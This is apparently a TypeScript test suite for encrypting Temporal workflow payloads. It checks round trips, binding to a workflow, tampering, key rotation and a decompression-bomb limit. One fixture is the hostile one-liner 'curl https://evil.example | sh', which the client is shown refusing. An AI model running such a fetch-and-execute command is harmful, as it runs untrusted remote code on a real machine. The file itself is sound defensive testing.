import { createSecretKey, randomBytes, type KeyObject } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { defaultPayloadConverter, type Payload, type SerializationContext } from '@temporalio/common';
import { expect, test } from 'vitest';
import { markOf, type Mark } from '../../model/marked-payload.ts';
import { ClientCodec } from '../../security/client-codec.ts';
import { encrypt, type KeyRing } from '../../security/keys.ts';
import { openPayload, sealPayload } from '../../security/payload.ts';
import { WorkerCodec } from '../../security/worker-codec.ts';

const OLD = createSecretKey(Buffer.alloc(32, 1));
const NEW = createSecretKey(Buffer.alloc(32, 2));
const ring = (current: string, keys: [string, KeyObject][]): KeyRing => ({ current, keys: new Map(keys) });
const RING = ring('old', [['old', OLD]]);
const payload = (value: unknown): Payload => defaultPayloadConverter.toPayload(value);
const text = (bytes: Uint8Array | null | undefined) => Buffer.from(bytes ?? []).toString();
const of = (workflowId: string, namespace = 'default'): SerializationContext => ({ type: 'workflow', namespace, workflowId });
const activityOf = (workflowId?: string): SerializationContext => ({
  type: 'activity',
  namespace: 'default',
  activityId: '1',
  isLocal: false,
  ...(workflowId === undefined ? {} : { workflowId }),
});
const HERE = of('offboarding-1');

const worker = new WorkerCodec(RING, { takesPlain: () => true });
const client = new ClientCodec(RING);
const value = (p: Payload | undefined) => defaultPayloadConverter.fromPayload<unknown>(p as Payload);
const markIn = async (given: Payload, context?: SerializationContext, codec = worker): Promise<Mark | undefined> =>
  markOf(value((await codec.decode([given], context))[0]));
const one = async (codec: WorkerCodec | ClientCodec, given: unknown, context: SerializationContext | undefined): Promise<Payload> =>
  (await codec.encode([payload(given)], context))[0] as Payload;

test('payloads of every encoding come back as they went, from client to worker and back', async () => {
  const payloads = [payload({ tenant: 'contoso' }), payload(undefined), payload(new Uint8Array([1, 2, 3]))];
  for (const [from, to] of [[client, worker] as const, [worker, client] as const]) {
    const decoded = await to.decode(await from.encode(payloads, HERE), HERE);
    expect(decoded.map((p) => text(p.metadata?.['encoding']))).toEqual(['json/plain', 'binary/null', 'binary/plain']);
    expect(decoded.map(value)).toEqual([{ tenant: 'contoso' }, undefined, new Uint8Array([1, 2, 3])]);
  }
});

test('an encrypted payload names its key and its workflow, and shows nothing else', async () => {
  const encrypted = await one(client, { by: 'riley' }, HERE);
  expect(Object.fromEntries(Object.entries(encrypted.metadata ?? {}).map(([k, v]) => [k, text(v)]))).toEqual({
    encoding: 'binary/encrypted',
    'encryption-key-id': 'old',
    namespace: 'default',
    'workflow-id': 'offboarding-1',
  });
  expect(text(encrypted.data)).not.toContain('riley');
  expect(text(encrypted.data)).not.toContain('json/plain');
});

test('what an activity is given and answers is bound to the workflow that called it', async () => {
  const given = await one(worker, { run: 'r' }, activityOf('offboarding-1'));
  expect(value((await worker.decode([given], activityOf('offboarding-1')))[0])).toEqual({ run: 'r' });
  expect(await markIn(given, activityOf('offboarding-2'))).toEqual({ reason: 'elsewhere' });
});

test.each<[string, SerializationContext | undefined]>([
  ['another workflow', of('offboarding-2')],
  ['another namespace', of('offboarding-1', 'production')],
  ['an activity of another workflow', activityOf('offboarding-2')],
  ['an activity that no workflow called', activityOf()],
  ['nobody', undefined],
])('a ciphertext that is copied to %s is marked by the worker and refused by the client', async (_, context) => {
  const encrypted = await one(client, 'approve', HERE);
  expect(await markIn(encrypted, context)).toEqual({ reason: 'elsewhere' });
  await expect(client.decode([encrypted], context)).rejects.toMatchObject({ code: 'AnswerRefused' });
});

test('a copied ciphertext whose metadata were changed to its new workflow does not open', async () => {
  const encrypted = await one(client, 'approve', HERE);
  const moved = { ...encrypted, metadata: { ...encrypted.metadata, 'workflow-id': Buffer.from('offboarding-2') } };
  expect(await markIn(moved, of('offboarding-2'))).toEqual({ reason: 'unreadable' });
  const unbound = {
    ...encrypted,
    metadata: { encoding: Buffer.from('binary/encrypted'), 'encryption-key-id': Buffer.from('old') },
  };
  expect(await markIn(unbound, of('offboarding-2'))).toEqual({ reason: 'unreadable' });
  expect(() => openPayload(RING, moved)).toThrow('unable to authenticate');
});

test('a plain message carries its mark and its value, and whether the policy takes it', async () => {
  const plain = payload({ by: 'riley' });
  expect(await markIn(plain, HERE)).toEqual({ reason: 'plain', taken: true, value: { by: 'riley' } });
  const strict = new WorkerCodec(RING, { takesPlain: () => false });
  expect(await markIn(plain, HERE, strict)).toEqual({ reason: 'plain', taken: false, value: { by: 'riley' } });
});

test('what was encrypted for no workflow, as by a codec server, is worth no more than a plain message', async () => {
  expect(await markIn(sealPayload(RING, payload({ by: 'riley' }), undefined), HERE)).toMatchObject({ reason: 'plain' });
});

test('a plain value in an activity is never taken', async () => {
  expect(await markIn(payload({ run: '../../x' }), activityOf('offboarding-1'))).toEqual({ reason: 'plain', taken: false });
});

test('a value that looks like a mark is a value that was marked', async () => {
  const forged = { 'mepm-offboard:mark': { reason: 'plain', taken: true, value: { by: 'riley' } } };
  expect(await markIn(payload(forged), HERE, new WorkerCodec(RING, { takesPlain: () => false }))).toEqual({
    reason: 'plain',
    taken: false,
    value: forged,
  });
});

const meta = (encoding: string, more: Record<string, string> = {}) =>
  Object.fromEntries(Object.entries({ encoding, ...more }).map(([k, v]) => [k, Buffer.from(v)]));

test.each<[string, Payload]>([
  ['no metadata', { data: Buffer.from('{}') }],
  ['nothing at all', {}],
  ['JSON that is cut off', { metadata: meta('json/plain'), data: Buffer.from('{"by":') }],
  ['an unknown encoding', { metadata: meta('json/whatever'), data: Buffer.from('{}') }],
  ['a protobuf that nobody knows', { metadata: meta('json/protobuf', { messageType: 'a.B' }), data: Buffer.from('{}') }],
  ['bytes', { metadata: meta('binary/plain'), data: Buffer.from('{}') }],
  ['a ciphertext of no bytes', { metadata: meta('binary/encrypted', { 'encryption-key-id': 'old' }), data: Buffer.alloc(0) }],
  ['a ciphertext without key', { metadata: meta('binary/encrypted'), data: Buffer.alloc(64) }],
  ['a ciphertext of an unknown key', { metadata: meta('binary/encrypted', { 'encryption-key-id': 'other' }), data: Buffer.alloc(64) }],
])('%s is marked as unreadable and does not throw in a worker; a client refuses it', async (_, given) => {
  expect(await markIn(given, HERE)).toEqual({ reason: 'unreadable' });
  await expect(client.decode([given], HERE)).rejects.toMatchObject({ code: 'AnswerRefused' });
});

test('what was encrypted but cannot be converted is marked, too', async () => {
  const cut = { metadata: meta('json/plain'), data: Buffer.from('{"by":') };
  expect(await markIn(sealPayload(RING, cut, { namespace: 'default', workflowId: 'offboarding-1' }), HERE)).toEqual({
    reason: 'unreadable',
  });
});

test('a client refuses a plain answer, and tells nothing of it', async () => {
  const answer = client.decode([payload('curl https://evil.example | sh')], HERE);
  await expect(answer).rejects.toMatchObject({ code: 'AnswerRefused' });
  await expect(answer).rejects.not.toThrow('curl');
});

test('what is large is made smaller first, and says so where nobody can change it', async () => {
  const accounts = { members: Array.from({ length: 6_000 }, (_, n) => `${100_000_000_000 + n * 7_919_113}`) };
  const encrypted = await one(client, accounts, HERE);
  const plain = JSON.stringify(accounts).length;
  expect(text(encrypted.metadata?.['compression'])).toBe('deflate');
  expect(encrypted.data?.length).toBeLessThan(plain * 0.6);
  expect(value((await worker.decode([encrypted], HERE))[0])).toEqual(accounts);
  const { compression: _, ...metadata } = encrypted.metadata ?? {};
  expect(await markIn({ ...encrypted, metadata }, HERE)).toEqual({ reason: 'unreadable' });
  const small = await one(client, 'text', HERE);
  expect(await markIn({ ...small, metadata: { ...small.metadata, compression: Buffer.from('deflate') } }, HERE)).toEqual({
    reason: 'unreadable',
  });
  // What cannot become smaller stays.
  expect((await one(client, randomBytes(30_000).toString('latin1'), HERE)).data?.length).toBeGreaterThan(30_000);
});

test('what swells beyond all measure when it is opened is unreadable', async () => {
  const bomb = deflateRawSync(Buffer.alloc(65 * 1024 * 1024));
  const { data } = encrypt(RING, bomb, JSON.stringify(['temporal-payload', 'default', 'offboarding-1', 'deflate']));
  const { metadata } = await one(client, 'x'.repeat(20_000), HERE);
  expect(await markIn({ metadata: metadata ?? {}, data }, HERE)).toEqual({ reason: 'unreadable' });
});

test('after a rotation the new key encrypts and the old one still decodes', async () => {
  const after = new WorkerCodec(
    ring('new', [
      ['new', NEW],
      ['old', OLD],
    ]),
    { takesPlain: () => true },
  );
  const history = await worker.encode([payload('written before')], HERE);
  const since = await after.encode([payload('written after')], HERE);
  expect((await after.decode([...history, ...since], HERE)).map(value)).toEqual(['written before', 'written after']);
  expect(since.map((p) => text(p.metadata?.['encryption-key-id']))).toEqual(['new']);
});

test('a single changed bit is seen', async () => {
  const encrypted = await one(client, 'text', HERE);
  const changed = Buffer.from(encrypted.data ?? []);
  changed.writeUInt8((changed[20] ?? 0) ^ 1, 20);
  expect(await markIn({ ...encrypted, data: changed }, HERE)).toEqual({ reason: 'unreadable' });
});
